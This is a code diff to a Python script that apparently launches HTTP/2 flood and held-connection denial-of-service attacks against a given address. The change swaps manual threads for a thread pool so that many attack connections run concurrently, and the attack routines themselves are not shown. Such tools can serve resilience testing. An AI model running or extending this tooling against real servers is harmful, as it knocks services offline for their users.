@@ -10,10 +10,10 @@ import json
 import select
 import socket
 import sys
-import threading
 import time
 from collections import Counter
 from collections.abc import Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
 
 HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 6, 8, 9
 ACK, END_HEADERS = 1, 4
@@ -113,12 +113,9 @@ def main(attack: str, address: str, path: str, seconds: str, connections: str) -
     if attack in HELD:
         counts = hold(HELD[attack], host, int(connections), until)
     else:
-        job = lambda: counts.update(flood(FLOODS[attack], host, path, until))  # noqa: E731
-        threads = [threading.Thread(target=job) for _ in range(int(connections))]
-        for thread in threads:
-            thread.start()
-        for thread in threads:
-            thread.join()
+        with ThreadPoolExecutor(int(connections)) as threads:
+            each = threads.map(lambda _: flood(FLOODS[attack], host, path, until), range(int(connections)))
+            counts = sum(each, counts)
     print(json.dumps(counts))
 
 
